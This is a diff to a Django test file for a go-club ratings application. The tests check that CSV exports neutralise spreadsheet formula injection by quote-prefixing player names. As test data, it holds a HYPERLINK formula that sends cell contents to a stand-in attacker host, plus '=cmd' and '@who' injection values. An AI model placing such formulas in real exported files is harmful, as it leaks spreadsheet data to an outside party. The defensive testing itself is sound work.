@@ -8,19 +8,24 @@ import csv
 import io
 from datetime import date
 from decimal import Decimal
+from typing import TYPE_CHECKING
 
 import pytest
+from django.test import Client
 from django.urls import reverse
 from hypothesis import given
 from hypothesis import strategies as st
 
 from ratings import committee, services
 from ratings.exchange.cells import FORMULA_TRIGGERS, restore_cell, safe_cell
-from ratings.models import Player
+from ratings.models import Club, Player
 from ratings.recompute import recompute_list
 from ratings.services import GameRow
 from ratings.whatif import rate_csv
-from tests.conftest import make_pool
+from tests.conftest import ClientFor, MakePlayer, make_pool
+
+if TYPE_CHECKING:
+    from tests.conftest import TestResponse
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
 
@@ -64,7 +69,7 @@ def test_reading_back_restores_what_was_written(text: str) -> None:
 
 
 @pytest.fixture
-def evil_games(club, make_player):  # type: ignore[no-untyped-def]
+def evil_games(club: Club, make_player: MakePlayer) -> tuple[Player, Player]:
     evil = make_player(EVIL, rank=-5, slug="evil")
     ann = make_player("@Ann", rank=-8, slug="ann")
     services.save_sheet(
@@ -77,18 +82,20 @@ def evil_games(club, make_player):  # type: ignore[no-untyped-def]
     return evil, ann
 
 
-def _cells(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
+def _cells(response: TestResponse) -> list[list[str]]:
     assert response.status_code == 200
     return list(csv.reader(io.StringIO(response.getvalue().decode())))
 
 
-def test_the_public_players_list(client, evil_games) -> None:  # type: ignore[no-untyped-def]
+def test_the_public_players_list(client: Client, evil_games: tuple[Player, Player]) -> None:
     rows = _cells(client.get(reverse("players"), {"export": "csv"}))
     names = {row[0] for row in rows[1:]}
     assert "'" + EVIL in names and "'@Ann" in names and EVIL not in names
 
 
-def test_a_players_record_sheet_keeps_negative_changes_numeric(client, evil_games) -> None:  # type: ignore[no-untyped-def]
+def test_a_players_record_sheet_keeps_negative_changes_numeric(
+    client: Client, evil_games: tuple[Player, Player]
+) -> None:
     rows = _cells(client.get(reverse("player", args=["evil"]), {"export": "csv"}))
     header, body = rows[0], rows[1:]
     assert {row[0] for row in body} == {"'@Ann"}
@@ -97,9 +104,13 @@ def test_a_players_record_sheet_keeps_negative_changes_numeric(client, evil_game
     assert all(float(c) < 0 for c in changes)  # numbers, not neutralised text
 
 
-def test_the_game_export_and_it_reads_back(client_for, club, evil_games) -> None:  # type: ignore[no-untyped-def]
+def test_the_game_export_and_it_reads_back(
+    client_for: ClientFor, club: Club, evil_games: tuple[Player, Player]
+) -> None:
     rows = _cells(
-        client_for("committee").get(reverse("export"), {"rating_list": club.rating_list_id, "format": "csv"})
+        client_for("committee").get(
+            reverse("export"), {"rating_list": str(club.rating_list_id), "format": "csv"}
+        )
     )
     header = rows[0]
     assert {row[header.index("white")] for row in rows[1:]} == {"'" + EVIL, "'@Ann"}
@@ -115,7 +126,8 @@ def test_the_game_export_and_it_reads_back(client_for, club, evil_games) -> None
     }
 
 
-def test_the_what_if_results(db) -> None:  # type: ignore[no-untyped-def]
+def test_the_what_if_results(db: None) -> None:
+    pytest.importorskip("ratings.engine.sagc")
     text = "date,white,black,winner,handicap,komi,white_start,black_start\n2024-03-05,=cmd,@who,black,0,6.5,5k,5k\n"
     rows = list(csv.DictReader(io.StringIO(rate_csv(text, "sagc"))))
     assert {row["player"] for row in rows} == {"'=cmd", "'@who"}
